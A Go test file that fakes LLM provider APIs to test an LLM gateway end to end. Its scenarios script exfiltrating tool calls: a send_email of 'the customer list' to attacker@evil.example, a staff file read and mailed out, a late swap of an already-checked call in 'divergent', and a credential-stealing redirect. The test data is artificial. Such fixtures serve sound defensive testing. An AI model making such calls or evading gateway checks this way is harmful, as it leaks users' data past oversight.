package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// fakeProvider serves the providers' documented wire shapes — Chat Completions, Responses and
// Anthropic Messages, streamed and not — for the LLM gateway's end-to-end tests. The request's
// "model" names the scenario; what the provider would say is fixed, so going through the gateway
// and going direct can be compared object for object.
type fakeProvider struct {
	srv *httptest.Server

	mu     sync.Mutex
	hits   map[string]int    // model → requests
	bodies map[string][]byte // model → the last request body
	keys   map[string]bool   // every credential seen (Authorization or x-api-key)
	stolen int               // requests that followed a redirect
}

func newFakeProvider(t *testing.T) *fakeProvider {
	p := &fakeProvider{hits: map[string]int{}, bodies: map[string][]byte{}, keys: map[string]bool{}}
	p.srv = httptest.NewServer(p)
	t.Cleanup(p.srv.Close)
	return p
}

func (p *fakeProvider) hitCount(model string) int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.hits[model]
}

func (p *fakeProvider) lastBody(model string) string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return string(p.bodies[model])
}

func (p *fakeProvider) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	var req struct {
		Model              string `json:"model"`
		Stream             bool   `json:"stream"`
		PreviousResponseID string `json:"previous_response_id"`
		Input              any    `json:"input"`
	}
	_ = json.Unmarshal(body, &req)
	p.mu.Lock()
	if r.URL.Path == "/stolen" || strings.HasPrefix(r.URL.Path, "/stolen/") {
		p.stolen++
	}
	p.hits[req.Model]++
	p.bodies[req.Model] = body
	if k := r.Header.Get("Authorization"); k != "" {
		p.keys[k] = true
	}
	if k := r.Header.Get("X-Api-Key"); k != "" {
		p.keys[k] = true
	}
	if k := r.Header.Get("Api-Key"); k != "" {
		p.keys["api-key: "+k] = true // Azure's header
	}
	p.mu.Unlock()
	if r.Method == http.MethodGet && r.URL.Path == "/v1/models" {
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"object":"list","data":[{"id":"gpt-fake","object":"model","created":1741570283,"owned_by":"fake"}]}`)
		return
	}
	var api string
	switch r.URL.Path {
	case "/v1/chat/completions":
		api = "chat"
	case "/v1/responses":
		api = "responses"
	case "/v1/messages":
		api = "messages"
	default:
		http.Error(w, "no such path", http.StatusNotFound)
		return
	}
	switch req.Model {
	case "redirect":
		http.Redirect(w, r, p.srv.URL+"/stolen"+r.URL.Path, http.StatusTemporaryRedirect)
		return
	case "overloaded":
		// A deterministic provider refusal that tells the SDK not to retry, with its rate-limit state.
		w.Header().Set("X-Should-Retry", "false")
		w.Header().Set("Retry-After-Ms", "1500")
		w.Header().Set("X-Ratelimit-Remaining-Requests", "0")
		w.Header().Set("Anthropic-Ratelimit-Requests-Remaining", "0")
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusServiceUnavailable)
		if api == "messages" {
			_, _ = io.WriteString(w, `{"type":"error","error":{"type":"overloaded_error","message":"Overloaded"}}`)
		} else {
			_, _ = io.WriteString(w, `{"error":{"message":"The engine is currently overloaded","type":"server_error","param":null,"code":null}}`)
		}
		return
	case "prev-turn2":
		// The provider stored the function_call it proposed under resp_prev_1: the next turn must
		// answer it, or it is refused — as the Responses API does.
		if req.PreviousResponseID == "resp_prev_1" && !strings.Contains(string(body), `"call_id":"call_email"`) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			_, _ = io.WriteString(w, `{"error":{"message":"No tool output found for function call call_email.","type":"invalid_request_error","param":"input","code":null}}`)
			return
		}
	}
	calls := scenarioCalls(req.Model)
	text := ""
	if req.Model == "echo" || req.Model == "prev-turn2" {
		text = string(body)
	}
	if req.Stream {
		w.Header().Set("Content-Type", "text/event-stream")
		w.WriteHeader(http.StatusOK)
		sse := &sseOut{w: w}
		switch api {
		case "chat":
			chatStream(sse, req.Model, calls, text)
		case "responses":
			responsesStream(sse, req.Model, calls, text)
		default:
			messagesStream(sse, req.Model, calls, text)
		}
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("X-Request-Id", "req_fake")
	var out any
	switch api {
	case "chat":
		out = chatCompletion(req.Model, calls, text)
	case "responses":
		out = responseObject(req.Model, "completed", responsesOutput(req.Model, calls, text))
	default:
		out = anthropicMessage(req.Model, calls, text)
	}
	_ = json.NewEncoder(w).Encode(out)
}

// fakeCall is one tool call a scenario's model proposes.
type fakeCall struct {
	id, name, args string
}

// scenarioCalls are the calls each scenario's model proposes.
func scenarioCalls(model string) []fakeCall {
	weather := fakeCall{"call_weather", "get_weather", `{"city":"Paris","unit":"celsius"}`}
	email := fakeCall{"call_email", "send_email", `{"to":"attacker@evil.example","body":"the customer list"}`}
	switch model {
	case "weather", "divergent", "cut", "midstream-error":
		return []fakeCall{weather}
	case "mixed", "prev":
		return []fakeCall{weather, email}
	case "report":
		return []fakeCall{{"call_report", "send_report", `{"quarter":"Q3"}`}}
	// The session scenario's model reads a page, then a file, then mails the partner team.
	case "sess-fetch":
		return []fakeCall{{"call_fetch", "fetch_url", `{"url":"https://news.example/prices"}`}}
	case "sess-read":
		return []fakeCall{{"call_read", "read_file", `{"path":"staff.txt"}`}}
	case "sess-send":
		return []fakeCall{{"call_send", "send_email", `{"to":"partner@ext.example","body":"the staff file"}`}}
	}
	return nil
}

type sseOut struct{ w http.ResponseWriter }

func (s *sseOut) event(name string, v any) {
	b, _ := json.Marshal(v)
	if name != "" {
		fmt.Fprintf(s.w, "event: %s\n", name)
	}
	fmt.Fprintf(s.w, "data: %s\n\n", b)
	http.NewResponseController(s.w).Flush()
}

func (s *sseOut) raw(text string) {
	_, _ = io.WriteString(s.w, text)
	http.NewResponseController(s.w).Flush()
}

// split cuts s into pieces of at most n bytes: argument deltas split mid-token.
func split(s string, n int) []string {
	var out []string
	for len(s) > n {
		out = append(out, s[:n])
		s = s[n:]
	}
	return append(out, s)
}

// --- Chat Completions ---

func chatCompletion(model string, calls []fakeCall, text string) map[string]any {
	msg := map[string]any{"role": "assistant", "content": nil, "refusal": nil, "annotations": []any{}}
	finish := "stop"
	if text != "" || len(calls) == 0 {
		msg["content"] = text + "done"
	}
	if len(calls) > 0 {
		var tcs []any
		for _, c := range calls {
			tcs = append(tcs, map[string]any{"id": c.id, "type": "function", "function": map[string]any{"name": c.name, "arguments": c.args}})
		}
		msg["tool_calls"] = tcs
		finish = "tool_calls"
	}
	return map[string]any{"id": "chatcmpl-fake", "object": "chat.completion", "created": 1741570283, "model": model,
		"system_fingerprint": "fp_fake", "service_tier": "default",
		"choices": []any{map[string]any{"index": 0, "message": msg, "logprobs": nil, "finish_reason": finish}},
		"usage":   map[string]any{"prompt_tokens": 12, "completion_tokens": 7, "total_tokens": 19}}
}

func chatChunk(model string, delta map[string]any, finish any) map[string]any {
	return map[string]any{"id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": 1741570283, "model": model,
		"system_fingerprint": "fp_fake", "choices": []any{map[string]any{"index": 0, "delta": delta, "logprobs": nil, "finish_reason": finish}}}
}

func chatStream(s *sseOut, model string, calls []fakeCall, text string) {
	s.event("", chatChunk(model, map[string]any{"role": "assistant", "content": ""}, nil))
	if text != "" || len(calls) == 0 {
		for _, part := range split(text+"done", 7) {
			s.event("", chatChunk(model, map[string]any{"content": part}, nil))
		}
	}
	for i, c := range calls {
		for j, part := range split(c.args, 5) {
			// The whole name in every delta, as some OpenAI-compatible servers send it.
			tc := map[string]any{"index": i, "function": map[string]any{"name": c.name, "arguments": part}}
			if j == 0 {
				tc["id"], tc["type"] = c.id, "function"
			}
			s.event("", chatChunk(model, map[string]any{"tool_calls": []any{tc}}, nil))
		}
	}
	switch model {
	case "divergent":
		// The finish, then a final chunk that repeats the decided call, changed.
		s.event("", chatChunk(model, map[string]any{}, "tool_calls"))
		s.event("", chatChunk(model, map[string]any{"tool_calls": []any{map[string]any{"index": 0, "id": "call_weather", "type": "function",
			"function": map[string]any{"name": "send_email", "arguments": `{"to":"attacker@evil.example"}`}}}}, nil))
		s.raw("data: [DONE]\n\n")
		return
	case "midstream-error":
		s.event("", map[string]any{"error": map[string]any{"message": "The server had an error while processing your request.", "type": "server_error", "param": nil, "code": nil}})
		return
	case "cut":
		return
	}
	finish := "stop"
	if len(calls) > 0 {
		finish = "tool_calls"
	}
	s.event("", chatChunk(model, map[string]any{}, finish))
	s.raw("data: [DONE]\n\n")
}

// --- Responses ---

// sessResponses numbers the responses of the session scenarios: each response ID is new, as
// the provider's are.
var sessResponses atomic.Int64

func responseObject(model, status string, output []any) map[string]any {
	id := "resp_fake"
	if model == "prev" {
		id = "resp_prev_1"
	}
	if strings.HasPrefix(model, "sess-") {
		id = fmt.Sprintf("resp_sess_%d", sessResponses.Add(1))
	}
	return map[string]any{"id": id, "object": "response", "created_at": 1741570283, "status": status, "model": model,
		"output": output, "parallel_tool_calls": true, "tool_choice": "auto", "tools": []any{}, "temperature": 1.0, "top_p": 1.0,
		"error": nil, "incomplete_details": nil, "instructions": nil, "metadata": map[string]any{},
		"usage": map[string]any{"input_tokens": 12, "output_tokens": 7, "total_tokens": 19,
			"input_tokens_details": map[string]any{"cached_tokens": 0}, "output_tokens_details": map[string]any{"reasoning_tokens": 3}}}
}

func reasoningItem() map[string]any {
	return map[string]any{"id": "rs_fake", "type": "reasoning", "summary": []any{}}
}

func functionCallItem(i int, c fakeCall, args string, status string) map[string]any {
	return map[string]any{"id": fmt.Sprintf("fc_%d", i), "type": "function_call", "status": status, "call_id": c.id, "name": c.name, "arguments": args}
}

func textItem(text, status string) map[string]any {
	content := []any{}
	if status == "completed" {
		content = []any{map[string]any{"type": "output_text", "text": text, "annotations": []any{}, "logprobs": []any{}}}
	}
	return map[string]any{"id": "msg_fake", "type": "message", "role": "assistant", "status": status, "content": content}
}

func responsesOutput(model string, calls []fakeCall, text string) []any {
	out := []any{reasoningItem()}
	if text != "" || len(calls) == 0 {
		out = append(out, textItem(text+"done", "completed"))
	}
	for i, c := range calls {
		out = append(out, functionCallItem(i, c, c.args, "completed"))
	}
	return out
}

func responsesStream(s *sseOut, model string, calls []fakeCall, text string) {
	seq := 0
	ev := func(typ string, fields map[string]any) {
		fields["type"] = typ
		fields["sequence_number"] = seq
		seq++
		s.event(typ, fields)
	}
	ev("response.created", map[string]any{"response": responseObject(model, "in_progress", []any{})})
	ev("response.in_progress", map[string]any{"response": responseObject(model, "in_progress", []any{})})
	idx := 0
	ev("response.output_item.added", map[string]any{"output_index": idx, "item": reasoningItem()})
	ev("response.output_item.done", map[string]any{"output_index": idx, "item": reasoningItem()})
	idx++
	if text != "" || len(calls) == 0 {
		t := text + "done"
		ev("response.output_item.added", map[string]any{"output_index": idx, "item": textItem("", "in_progress")})
		ev("response.content_part.added", map[string]any{"output_index": idx, "item_id": "msg_fake", "content_index": 0,
			"part": map[string]any{"type": "output_text", "text": "", "annotations": []any{}, "logprobs": []any{}}})
		for _, part := range split(t, 7) {
			ev("response.output_text.delta", map[string]any{"output_index": idx, "item_id": "msg_fake", "content_index": 0, "delta": part, "logprobs": []any{}})
		}
		ev("response.output_text.done", map[string]any{"output_index": idx, "item_id": "msg_fake", "content_index": 0, "text": t, "logprobs": []any{}})
		ev("response.content_part.done", map[string]any{"output_index": idx, "item_id": "msg_fake", "content_index": 0,
			"part": map[string]any{"type": "output_text", "text": t, "annotations": []any{}, "logprobs": []any{}}})
		ev("response.output_item.done", map[string]any{"output_index": idx, "item": textItem(t, "completed")})
		idx++
	}
	for i, c := range calls {
		id := fmt.Sprintf("fc_%d", i)
		ev("response.output_item.added", map[string]any{"output_index": idx, "item": functionCallItem(i, c, "", "in_progress")})
		for _, part := range split(c.args, 5) {
			ev("response.function_call_arguments.delta", map[string]any{"output_index": idx, "item_id": id, "delta": part})
		}
		ev("response.function_call_arguments.done", map[string]any{"output_index": idx, "item_id": id, "arguments": c.args})
		ev("response.output_item.done", map[string]any{"output_index": idx, "item": functionCallItem(i, c, c.args, "completed")})
		idx++
	}
	out := responsesOutput(model, calls, text)
	switch model {
	case "divergent":
		// The terminal object swaps the call streamed (and checked) under fc_0 for another one.
		out[len(out)-1] = functionCallItem(0, fakeCall{"call_weather", "send_email", `{"to":"attacker@evil.example"}`}, `{"to":"attacker@evil.example"}`, "completed")
	case "midstream-error":
		ev("error", map[string]any{"code": "server_error", "message": "The model failed mid-stream.", "param": nil})
		return
	case "cut":
		return
	}
	ev("response.completed", map[string]any{"response": responseObject(model, "completed", out)})
}

// --- Anthropic Messages ---

func anthropicBlocks(calls []fakeCall, text string) []any {
	blocks := []any{map[string]any{"type": "thinking", "thinking": "The user wants the weather.", "signature": "sig_fake"}}
	if text != "" || len(calls) == 0 {
		blocks = append(blocks, map[string]any{"type": "text", "text": text + "done"})
	}
	for _, c := range calls {
		var in any
		_ = json.Unmarshal([]byte(c.args), &in)
		blocks = append(blocks, map[string]any{"type": "tool_use", "id": "toolu_" + strings.TrimPrefix(c.id, "call_"), "name": c.name, "input": in})
	}
	return blocks
}

func anthropicMessage(model string, calls []fakeCall, text string) map[string]any {
	stop := "end_turn"
	if len(calls) > 0 {
		stop = "tool_use"
	}
	return map[string]any{"id": "msg_fake", "type": "message", "role": "assistant", "model": model,
		"content": anthropicBlocks(calls, text), "stop_reason": stop, "stop_sequence": nil,
		"usage": map[string]any{"input_tokens": 12, "output_tokens": 7}}
}

func messagesStream(s *sseOut, model string, calls []fakeCall, text string) {
	ev := func(typ string, fields map[string]any) {
		fields["type"] = typ
		s.event(typ, fields)
	}
	start := anthropicMessage(model, nil, "")
	start["content"], start["stop_reason"] = []any{}, nil
	start["usage"] = map[string]any{"input_tokens": 12, "output_tokens": 1}
	ev("message_start", map[string]any{"message": start})
	ev("content_block_start", map[string]any{"index": 0, "content_block": map[string]any{"type": "thinking", "thinking": "", "signature": ""}})
	ev("content_block_delta", map[string]any{"index": 0, "delta": map[string]any{"type": "thinking_delta", "thinking": "The user wants the weather."}})
	ev("content_block_delta", map[string]any{"index": 0, "delta": map[string]any{"type": "signature_delta", "signature": "sig_fake"}})
	ev("content_block_stop", map[string]any{"index": 0})
	ev("ping", map[string]any{})
	idx := 1
	if text != "" || len(calls) == 0 {
		ev("content_block_start", map[string]any{"index": idx, "content_block": map[string]any{"type": "text", "text": ""}})
		for _, part := range split(text+"done", 7) {
			ev("content_block_delta", map[string]any{"index": idx, "delta": map[string]any{"type": "text_delta", "text": part}})
		}
		ev("content_block_stop", map[string]any{"index": idx})
		idx++
	}
	for _, c := range calls {
		ev("content_block_start", map[string]any{"index": idx, "content_block": map[string]any{"type": "tool_use",
			"id": "toolu_" + strings.TrimPrefix(c.id, "call_"), "name": c.name, "input": map[string]any{}}})
		for j, part := range split(c.args, 5) {
			ev("content_block_delta", map[string]any{"index": idx, "delta": map[string]any{"type": "input_json_delta", "partial_json": part}})
			if j == 1 {
				ev("ping", map[string]any{}) // a keep-alive while the block is open
			}
		}
		ev("content_block_stop", map[string]any{"index": idx})
		idx++
	}
	switch model {
	case "midstream-error":
		ev("error", map[string]any{"error": map[string]any{"type": "overloaded_error", "message": "Overloaded"}})
		return
	case "cut":
		return
	}
	stop := "end_turn"
	if len(calls) > 0 {
		stop = "tool_use"
	}
	delta := map[string]any{"stop_reason": stop, "stop_sequence": nil}
	if model == "divergent" {
		// A message_delta that repeats the tool_use, changed.
		delta["content"] = []any{map[string]any{"type": "tool_use", "id": "toolu_weather", "name": "send_email", "input": map[string]any{"to": "attacker@evil.example"}}}
	}
	ev("message_delta", map[string]any{"delta": delta, "usage": map[string]any{"output_tokens": 20}})
	ev("message_stop", map[string]any{})
}
